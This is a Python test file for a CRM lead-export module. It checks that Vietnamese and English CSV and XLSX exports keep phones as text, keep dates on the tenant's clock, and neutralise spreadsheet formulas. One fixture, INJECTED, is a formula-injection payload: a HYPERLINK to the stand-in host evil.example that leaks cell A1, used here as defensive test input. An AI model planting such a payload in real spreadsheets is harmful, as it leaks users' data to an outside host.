"""The export's columns and its files as Excel reads them: phones stay text, dates are the tenant's,
Vietnamese survives the CSV, and no cell is ever a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from leadrouter.domain.attribution import Attribution, Touch
from leadrouter.domain.leads import Decision, Lead, LeadStatus
from leadrouter.logic.exports.columns import (
    COLUMNS,
    FIRST_TOUCH_FIELDS,
    Cell,
    Phone,
    headers,
    history_summary,
    lead_row,
)
from leadrouter.logic.exports.writing import FORMULA_STARTS, neutralised, write_csv, write_xlsx
from tests.support.builders import NOW, lead

SAIGON = ZoneInfo("Asia/Ho_Chi_Minh")  # NOW is 09:00 there
VI_HEADERS = [
    "Mã lead",
    "Họ tên",
    "Số điện thoại",
    "Email",
    "Trạng thái",
    "Nhân viên phụ trách",
    "Kho dữ liệu",
    "Bước",
    "Chiến dịch",
    "Nguồn",
    "Ngày nhận",
    "Ngày giao",
    "Lịch sử",
]
EN_HEADERS = [
    "Lead id",
    "Name",
    "Phone",
    "Email",
    "Status",
    "Owner",
    "Pool",
    "Step",
    "Campaign",
    "Source",
    "Received at",
    "Assigned at",
    "History",
]
INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _assigned_lead(**fields: Any) -> Lead:
    first = Touch(utm_source="facebook", utm_campaign="tet-2027", fbclid="IwAR0abc", at=NOW)
    return lead(
        name=fields.pop("name", "Trần Thị Bình"),
        phone="+84912345678",
        email="binh@congty.vn",
        campaign="Tết 2027",
        source="web-form",
        status=LeadStatus.ASSIGNED,
        owner="A",
        assigned_at=NOW + timedelta(minutes=5),
        attribution=Attribution(first=first, latest=Touch(utm_source="zalo", at=NOW + timedelta(days=1))),
        decisions=[
            Decision(at=NOW + timedelta(minutes=5), action="assigned", staff_id="B"),
            Decision(at=NOW + timedelta(hours=3), action="reclaimed", staff_id="A", previous_owner="B"),
        ],
        last_activity_at=NOW + timedelta(days=1, hours=1),
        **fields,
    )


def _row(language: str = "vi", **fields: Any) -> list[Cell]:
    x = _assigned_lead(**fields)
    return lead_row(x, "Nguyễn Văn A", history_summary(x, SAIGON, language), SAIGON, language)  # type: ignore[arg-type]


def _by_header(language: str, row: list[Cell]) -> dict[str, Cell]:
    return dict(zip(headers(language), row, strict=True))  # type: ignore[arg-type]


# ------------------------------------------------------------------ columns
def test_the_headers_are_exactly_the_ones_the_import_maps_back() -> None:
    # Given the two languages, Then the lead's own columns come first, in order, exactly so named
    assert headers("vi")[:13] == VI_HEADERS
    assert headers("en")[:13] == EN_HEADERS
    # And the first touch's attribution follows under its technical names, the same in both
    assert headers("vi")[13:] == headers("en")[13:] == list(FIRST_TOUCH_FIELDS)
    assert {"utm_source", "utm_medium", "utm_campaign", "gclid", "fbclid", "landing_url", "referrer"} <= set(
        FIRST_TOUCH_FIELDS
    )
    assert set(FIRST_TOUCH_FIELDS) <= set(Touch.model_fields)
    assert len({c.key for c in COLUMNS}) == len(COLUMNS)


def test_a_row_names_the_status_and_owner_in_words_and_dates_on_the_tenants_clock() -> None:
    # Given an assigned lead with a first and a latest touch
    vi = _by_header("vi", _row("vi"))
    en = _by_header("en", _row("en"))
    # Then the status is its label, the owner their name, the phone a phone
    assert (vi["Trạng thái"], en["Status"]) == ("Lead đã được gán", "Assigned")
    assert vi["Nhân viên phụ trách"] == "Nguyễn Văn A"
    assert vi["Số điện thoại"] == Phone("+84912345678")
    assert (vi["Họ tên"], vi["Chiến dịch"], vi["Nguồn"]) == ("Trần Thị Bình", "Tết 2027", "web-form")
    # And the dates are the tenant's wall clock (09:00 and 09:05 in Ho Chi Minh City)
    received, assigned = vi["Ngày nhận"], vi["Ngày giao"]
    assert isinstance(received, datetime) and isinstance(assigned, datetime)
    assert (received.utcoffset(), received.hour, received.minute) == (timedelta(hours=7), 9, 0)
    assert (assigned.hour, assigned.minute) == (9, 5)
    # And the attribution is the FIRST touch's (the campaign that found the customer)
    assert (vi["utm_source"], vi["utm_campaign"], vi["fbclid"], vi["gclid"]) == (
        "facebook",
        "tet-2027",
        "IwAR0abc",
        None,
    )


def test_the_history_summary_comes_from_the_lead_item_alone() -> None:
    # Given a lead assigned, then reclaimed, then cared for the next day
    x = _assigned_lead()
    # Then the summary counts the decisions, names the last one and the last care, on the tenant's clock
    assert history_summary(x, SAIGON, "vi") == (
        "2 lần phân bổ, gần nhất: thu hồi 24/11/2026 12:00; chăm sóc gần nhất: 25/11/2026 10:00"
    )
    assert history_summary(x, SAIGON, "en") == (
        "2 decisions, last: reclaimed 24/11/2026 12:00; last care: 25/11/2026 10:00"
    )
    # And a fresh pending lead has none (an empty cell)
    fresh = lead()
    assert history_summary(fresh, SAIGON, "vi") == ""
    assert lead_row(fresh, None, "", SAIGON, "vi")[12] is None


# ------------------------------------------------------------------ xlsx
def _xlsx(rows: list[list[Cell]], language: str = "vi") -> bytes:
    out = io.BytesIO()
    assert write_xlsx(headers(language), rows, out) == len(rows)  # type: ignore[arg-type]
    return out.getvalue()


def test_the_xlsx_keeps_phones_as_text_dates_as_dates_and_never_a_formula() -> None:
    # Given a row whose name is a formula, and a phone Excel would make a number
    content = _xlsx([_row("vi", name=INJECTED)])
    # When Excel (openpyxl) reads the file back
    book = load_workbook(io.BytesIO(content))
    sheet = book["Leads"]
    # Then the header row is frozen and exact
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == headers("vi")
    cells = dict(zip(headers("vi"), sheet[2], strict=True))
    # And the phone is a text cell keeping its +
    phone = cells["Số điện thoại"]
    assert (phone.data_type, phone.value, phone.number_format) == ("s", "+84 912 345 678", "@")
    # And the dates are real dates, 09:00 and 09:05 as Ho Chi Minh City saw them
    received = cells["Ngày nhận"]
    assert received.value == datetime(2026, 11, 24, 9, 0)
    assert received.number_format == "dd/mm/yyyy hh:mm" and received.is_date
    assert cells["Ngày giao"].value == datetime(2026, 11, 24, 9, 5)
    # And the formula-looking name is a plain string, as typed (never a formula cell)
    name = cells["Họ tên"]
    assert (name.data_type, name.value) == ("s", INJECTED)
    assert cells["Trạng thái"].value == "Lead đã được gán"


def test_a_phone_with_a_leading_zero_stays_text_in_xlsx() -> None:
    # Given a phone kept as typed with its leading 0 (a cell that is only text to the writers)
    row: list[Cell] = ["L1", "An", Phone("0912345678"), *[None] * (len(COLUMNS) - 3)]
    content = _xlsx([row])
    cell = load_workbook(io.BytesIO(content))["Leads"]["C2"]
    # Then Excel reads it as the text "0912345678", not the number 912345678
    assert (cell.data_type, cell.value) == ("s", "0912345678")


@settings(max_examples=25)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1))
def test_any_text_reads_back_from_xlsx_exactly_and_as_a_string(text: str) -> None:
    content = _xlsx([[text]], "en")
    cell = load_workbook(io.BytesIO(content))["Leads"]["A2"]
    assert (cell.data_type, cell.value) == ("s", text)


# ------------------------------------------------------------------ csv
def _csv(rows: list[list[Cell]], language: str = "vi") -> bytes:
    out = io.BytesIO()
    assert write_csv(headers(language), rows, out) == len(rows)  # type: ignore[arg-type]
    assert not out.closed  # the caller's file is left open
    return out.getvalue()


def test_the_csv_is_utf8_with_bom_crlf_and_keeps_vietnamese_phones_and_dates() -> None:
    # Given a Vietnamese row whose name is a formula
    content = _csv([_row("vi", name=INJECTED)])
    # Then the file starts with the UTF-8 byte order mark and decodes as UTF-8
    assert content.startswith(b"\xef\xbb\xbf")
    text = content[3:].decode("utf-8")
    assert text.startswith("Mã lead,Họ tên,Số điện thoại,")
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    (header, row) = csv.reader(io.StringIO(text, newline=""))
    cells = dict(zip(header, row, strict=True))
    # And Vietnamese is intact, the phone is international with spaces (text to Excel), dates are text
    assert cells["Trạng thái"] == "Lead đã được gán"
    assert cells["Chiến dịch"] == "Tết 2027"
    assert cells["Nhân viên phụ trách"] == "Nguyễn Văn A"
    assert cells["Số điện thoại"] == "+84 912 345 678"
    assert (cells["Ngày nhận"], cells["Ngày giao"]) == ("24/11/2026 09:00", "24/11/2026 09:05")
    # And the formula is neutralised by a leading apostrophe
    assert cells["Họ tên"] == "'" + INJECTED
    assert cells["gclid"] == ""


def test_the_english_csv_has_the_english_headers_and_labels() -> None:
    text = _csv([_row("en")], "en")[3:].decode("utf-8")
    (header, row) = csv.reader(io.StringIO(text, newline=""))
    assert header[:13] == EN_HEADERS
    assert dict(zip(header, row, strict=True))["Status"] == "Assigned"


@given(st.text(alphabet=st.characters(codec="utf-8")))  # surrogates cannot be UTF-8
def test_no_csv_text_cell_starts_a_formula_and_each_reads_back_as_written(text: str) -> None:
    # Given any text in a cell (commas, quotes, line breaks, formula starts, Vietnamese)
    content = _csv([[text, "x"]], "en")
    # When a CSV reader reads it back
    (_, row) = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    # Then it is the text, neutralised: an apostrophe only before a formula's start
    assert row == [neutralised(text), "x"]
    assert not row[0].startswith(FORMULA_STARTS)
    assert row[0] == text or row[0] == "'" + text
